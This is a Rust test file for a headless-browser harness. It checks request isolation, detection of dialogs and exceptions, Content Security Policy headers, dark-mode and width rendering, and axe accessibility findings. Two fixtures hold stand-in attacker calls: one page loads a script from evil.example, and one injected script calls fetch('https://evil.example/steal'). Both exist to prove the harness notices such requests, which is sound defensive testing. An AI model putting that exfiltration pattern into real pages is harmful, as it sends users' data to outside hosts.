//! Whether the browser sees what the tests rely on: a harness that finds nothing has to be shown to find something.

use std::{
    io::{BufRead as _, BufReader, Write as _},
    net::TcpListener,
};

use serde_json::json;

use crate::{axe, desk::Answer, page::page};

#[test]
fn a_page_is_asked_for_over_http_and_nothing_else_leaves_the_machine() {
    let Some(page) = page() else { return };
    let listener = TcpListener::bind("127.0.0.1:0").expect("a port");
    let address = format!("http://{}/order?key=a", listener.local_addr().expect("an address"));
    let server = std::thread::spawn(move || {
        let (mut stream, _) = listener.accept().expect("the browser comes");
        let mut asked = String::new();
        BufReader::new(&stream).read_line(&mut asked).expect("a request");
        let body = r#"<html lang="en"><title>x</title><p>Paid</p><img src="https://cdn.example/a.jpg">
            <script src="https://evil.example/x.js"></script><link rel="icon" href="data:,"></html>"#;
        let head = format!(
            "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {}\r\nConnection: close",
            body.len()
        );
        stream.write_all(format!("{head}\r\n\r\n{body}").as_bytes()).expect("the browser listens");
        asked
    });
    page.open(&address);
    assert_eq!(page.text("p"), "Paid");
    assert_eq!(server.join().expect("it ended well"), "GET /order?key=a HTTP/1.1\r\n");
    // The picture is answered here, the script by nobody.
    assert_eq!(page.evaluate("document.images[0].naturalWidth"), json!(240));
    let asked = page.asked();
    assert!(asked.iter().any(|url| url == "https://evil.example/x.js"), "{asked:?}");
    assert_eq!(page.noise(), Vec::<String>::new());
    assert_eq!(page.evaluate("document.scripts.length"), json!(1));
}

#[test]
fn what_a_page_does_that_it_never_should_is_noticed() {
    let Some(page) = page() else { return };
    page.show(
        "<script>alert('x'); fetch('https://evil.example/steal').catch(() => 0); undefined_thing()</script>",
    );
    let noise = page.noise();
    assert!(noise.iter().any(|n| n.starts_with("a dialog")), "{noise:?}");
    assert!(noise.iter().any(|n| n.starts_with("an exception")), "{noise:?}");
    assert!(page.asked().contains(&"https://evil.example/steal".to_owned()));
}

#[test]
fn headers_of_an_answer_count() {
    let Some(page) = page() else { return };
    let mut answer = Answer::html("<p>1</p><script>document.body.textContent = 2</script>");
    answer.headers.push(("content-security-policy".into(), "default-src 'none'".into()));
    page.lay_out("https://orders.example/o/1", answer);
    page.open("https://orders.example/o/1");
    assert_eq!(page.text("body"), "1");
    assert!(page.noise().iter().any(|n| n.contains("Content Security Policy")), "{:?}", page.noise());
}

#[test]
fn light_and_dark_and_widths_are_what_the_page_sees() {
    let Some(page) = page() else { return };
    page.show(
        "<meta name=viewport content='width=device-width'><style>@media (prefers-color-scheme: dark) { p { color: red } }
        @media (max-width: 480px) { p { width: 500px } }</style><p>x</p>",
    );
    let seen = || page.evaluate("getComputedStyle(document.querySelector('p')).color");
    assert_eq!(seen(), json!("rgb(0, 0, 0)"));
    page.set_dark(true);
    assert_eq!(seen(), json!("rgb(255, 0, 0)"));
    assert_eq!(page.contents_width(), 700);
    page.set_width(320);
    assert!(page.contents_width() > 500, "{}", page.contents_width());
}

#[test]
fn axe_finds_what_is_wrong() {
    let Some(page) = page() else { return };
    if !axe::is_there() {
        return;
    }
    page.show(
        "<html><title>x</title><style>@media (prefers-color-scheme: dark) { body { background: #000 } p { color: #333 } }
        </style><main><h1>x</h1><p>text</p><img src='https://acme.example/x.png'></main></html>",
    );
    let rules = |found: Vec<String>| -> Vec<String> {
        found.iter().map(|fault| fault.split(':').next().unwrap_or_default().to_owned()).collect()
    };
    assert_eq!(rules(page.axe(&[])), ["html-has-lang", "image-alt"]);
    page.set_dark(true);
    assert_eq!(rules(page.axe(&["html-has-lang", "image-alt"])), ["color-contrast", "color-contrast"]);
    let found = page.axe_by_day_and_night(&["html-has-lang"]);
    assert_eq!(rules(found), ["image-alt", "in the dark", "in the dark"]);
}
